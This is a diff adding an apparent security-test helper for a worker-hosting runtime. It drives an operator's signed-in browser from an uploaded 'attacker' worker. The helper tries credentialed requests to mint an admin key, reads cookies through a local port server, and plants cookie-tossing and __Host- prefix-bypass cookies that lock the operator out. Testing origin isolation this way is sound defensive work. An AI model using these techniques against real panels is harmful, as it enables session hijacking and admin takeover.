@@ -1,0 +1,106 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { BrowserContext, Page } from "playwright-core";
+import { connect } from "./connect.js";
+import { uploadWorker } from "./upload-worker.js";
+
+/** Answers with a page, and with the Set-Cookie headers of the query. */
+const attacker = `export default { fetch(request) {
+  const headers = new Headers({ "content-type": "text/html" });
+  for (const value of new URL(request.url).searchParams.getAll("cookie")) headers.append("set-cookie", value);
+  return new Response("<title>attacker</title>", { headers });
+} };`;
+
+/** Uploads the worker whose pages attack, as `attacker`. */
+export async function uploadAttacker(daemonUrl: string, rootKey: string): Promise<string> {
+  const client = connect(daemonUrl, rootKey);
+  await uploadWorker(client, "attacker", { "index.js": attacker });
+  return (await client.keys.create({ body: { name: "attacker", role: "viewer" } })).data.key;
+}
+
+interface AttackOptions {
+  /** Of the operator, who is signed in at the panel there. */
+  readonly context: BrowserContext;
+  readonly panelOrigin: string;
+  /** Where the attacker's page is served. */
+  readonly appsOrigin: string;
+  /** A key of the attacker's own. */
+  readonly attackerKey: string;
+}
+
+/** What an attack obtained. */
+export interface Loot {
+  /** Statuses of calls with the operator's cookie; "blocked" where the browser shows no answer. */
+  readonly calls: Readonly<Record<string, number | "blocked">>;
+  /** Cookie headers that a server on another port of the attacker's host was sent. */
+  readonly cookies: readonly string[];
+}
+
+/** Has a page of a worker act with the operator's session, read its key by a port of its own, and plant cookies that lock the operator out. */
+export async function attackOperator({ context, panelOrigin, appsOrigin, attackerKey }: AttackOptions): Promise<Loot> {
+  const page = await context.newPage();
+  await page.goto(`${appsOrigin}/attacker/`);
+  const calls = {
+    "a key made at the own host": await statusOf(page, `${appsOrigin}/api/keys`, { method: "POST", body: newKey }),
+    "the session at the own host": await statusOf(page, `${appsOrigin}/api/admin/session`),
+    "a key made at the panel's host": await statusOf(page, `${panelOrigin}/api/keys`, { method: "POST", body: newKey }),
+    "the keys read at the panel's host": await statusOf(page, `${panelOrigin}/api/keys`),
+    "the panel's page read": await statusOf(page, `${panelOrigin}/cpanel/`),
+  };
+  const cookies = await readCookiesByPort(page, new URL(appsOrigin).hostname);
+  await plantCookies(page, appsOrigin, attackerKey);
+  await page.close();
+  return { calls, cookies };
+}
+
+const newKey = JSON.stringify({ name: "pwned", role: "admin" });
+
+async function statusOf(page: Page, url: string, init: { method?: string; body?: string } = {}): Promise<number | "blocked"> {
+  return await page.evaluate(
+    async ([target, options]) =>
+      await fetch(target, {
+        ...options,
+        credentials: "include",
+        ...(options.body && { headers: { "content-type": "application/json" } }),
+      }).then(
+        (response) => response.status,
+        () => "blocked" as const,
+      ),
+    [url, init] as const,
+  );
+}
+
+/** A worker cannot listen any more; this server stands for one that could. */
+async function readCookiesByPort(page: Page, hostname: string): Promise<string[]> {
+  const cookies: string[] = [];
+  const server = createServer((request, response) => {
+    cookies.push(request.headers.cookie ?? "");
+    response.end();
+  }).listen(0, "127.0.0.1");
+  await new Promise((resolve) => server.once("listening", resolve));
+  const { port } = server.address() as AddressInfo;
+  await page.goto(`http://${hostname}:${port}/`);
+  server.close();
+  return cookies;
+}
+
+/** By scripts and by responses: junk and a working key, for the host and for the domain above it, at every path of a call. */
+async function plantCookies(page: Page, appsOrigin: string, attackerKey: string): Promise<void> {
+  const domain = new URL(appsOrigin).hostname.split(".").slice(1).join(".");
+  const planted = ["/", "/api", "/api/", "/api/admin", "/api/admin/session", "/api/workers"].flatMap((path) =>
+    ["", `; domain=${domain}`, `; domain=${domain}; secure`].map(
+      (scope, index) =>
+        `runtime_api_key=${index === 0 ? encodeURIComponent(attackerKey) : `junk${index}${path.length}`}; path=${path}; max-age=86400${scope}`,
+    ),
+  );
+  const all = [
+    ...planted,
+    `__Host-runtime_api_key=junk; path=/; secure; domain=${domain}`,
+    `__Host-runtime_api_key=junk; path=/api; secure`,
+    `=runtime_api_key=junk; path=/api; domain=${domain}`,
+    `=__Host-runtime_api_key=junk; path=/; domain=${domain}`,
+  ];
+  const query = new URLSearchParams(all.map((cookie): [string, string] => ["cookie", cookie]));
+  await page.goto(`${appsOrigin}/attacker/?${query}`);
+  await page.evaluate(`for (const cookie of ${JSON.stringify(all)}) document.cookie = cookie;`);
+}
